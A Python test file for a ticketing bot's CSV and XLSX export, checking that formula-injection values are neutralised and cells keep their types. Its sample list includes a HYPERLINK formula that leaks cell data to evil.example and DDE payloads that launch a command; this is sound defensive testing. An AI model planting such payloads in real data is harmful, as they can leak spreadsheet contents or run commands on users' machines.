"""Exports safe to open in Excel or LibreOffice: formula injection in CSV, typed cells in
XLSX (read back with openpyxl), three sheets with the process's column names."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from bot.process.domain import Canal, Prioridad, TipoIncidencia
from bot.records.export import TABLE_NAMES, neutralise, to_csv, to_xlsx
from bot.records.export_data import load_tables
from bot.services import Services
from tests.conftest import SANTIAGO, Team
from tests.core.app.test_cli_export import atiende

HOSTILE = [
    "=1+HYPERLINK(\"http://evil.example/?x=\"&A1,\"Clic\")",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "-1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_neutralises_every_formula_start(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "+56 9 1234 5678", "+56912345678", "Hola", "",
                                   "correo@example.cl", "1+1"])
def test_csv_leaves_plain_values(value: str) -> None:
    assert neutralise(value) == value


async def hostile_ticket(services: Services, team: Team) -> int:
    customer = await services.customers.find_or_create(
        phone="+56 9 1234 5678", name=HOSTILE[0])
    view = await services.tickets.open(team.admin, customer_id=customer.id,
                                       channel=Canal.WHATSAPP, description=HOSTILE[1],
                                       subject=HOSTILE[2])
    await services.tickets.classify(team.admin, view.number, tipo=TipoIncidencia.RECLAMO,
                                    prioridad=Prioridad.ALTA)
    await services.tickets.note(team.admin, view.number, HOSTILE[3])
    return view.number


async def test_csv_tables_are_neutralised(services: Services, team: Team) -> None:
    await hostile_ticket(services, team)
    for name in TABLE_NAMES:
        (table,) = await load_tables(services.queries, (name,))
        text = to_csv(table, SANTIAGO).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
        cells = [c for row in rows[1:] for c in row]
        assert cells, name
        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not c.replace(" ", "").lstrip("+-").isdigit()]
        assert live == [], (name, live)
    (tickets,) = await load_tables(services.queries, ("tickets",))
    row = dict(zip(*list(csv.reader(io.StringIO(to_csv(tickets, SANTIAGO).decode("utf-8-sig")),
                                    delimiter=";")), strict=True))
    assert row["Cliente"] == "'" + HOSTILE[0] and row["Teléfono"] == "+56912345678"


async def test_xlsx_three_sheets_typed_cells(services: Services, team: Team) -> None:
    number = await hostile_ticket(services, team)
    data = to_xlsx(await load_tables(services.queries, TABLE_NAMES), SANTIAGO)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Clientes", "Tickets", "Interacciones"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.column_dimensions["B"].width > 8
        # No cell anywhere is a formula; hostile text is stored as the string itself.
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith("'"), cell.value
    tickets = book["Tickets"]
    header = [c.value for c in tickets[1]]
    row = {h: c for h, c in zip(header, tickets[2], strict=True)}
    assert row["Ticket"].value == number and row["Ticket"].data_type == "n"
    assert row["Ticket"].number_format == '"#"0'
    assert row["Cliente"].value == HOSTILE[0] and row["Cliente"].data_type == "s"
    assert row["Asunto"].value == HOSTILE[2]
    assert row["Teléfono"].value == "+56912345678" and row["Teléfono"].data_type == "s"
    assert isinstance(row["Fecha_Creacion"].value, datetime)
    assert row["Fecha_Creacion"].value == datetime(2026, 12, 4, 17, 50)  # noqa: DTZ001 (local)
    assert row["Horas_Habiles_Resolucion"].data_type == "n"
    customers = book["Clientes"]
    assert [c.value for c in customers[1]][:4] == ["Cliente_ID", "Nombre", "Correo", "Teléfono"]
    assert customers["H2"].value == 1  # Tickets per customer, a number
    bodies = [r[6].value for r in book["Interacciones"].iter_rows(min_row=2)]
    assert HOSTILE[1] in bodies and HOSTILE[3] in bodies


def test_cli_csv_table_choice_and_xlsx(tmp_path) -> None:  # type: ignore[no-untyped-def]
    assert atiende(tmp_path, "db", "upgrade").returncode == 0
    console = atiende(tmp_path, "console", stdin="/nuevo\n+56 9 1234 5678\n=cmd|x\n2\n"
                      "Me cobraron dos veces\n2\n3\n1\n/salir\n")
    assert console.returncode == 0, console.stderr
    customers = atiende(tmp_path, "export", "--table", "clientes")
    assert customers.returncode == 0, customers.stderr
    lines = customers.stdout.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("Cliente_ID;Nombre") and "'=cmd|x" in lines[1]
    history = atiende(tmp_path, "export", "--table", "interacciones")
    assert history.stdout.lstrip("\ufeff").startswith("Interaccion_ID;Ticket;Fecha")
    out = tmp_path / "libro.xlsx"
    assert atiende(tmp_path, "export", "--format", "xlsx", "-o", str(out)).returncode == 0
    assert load_workbook(out).sheetnames == ["Clientes", "Tickets", "Interacciones"]
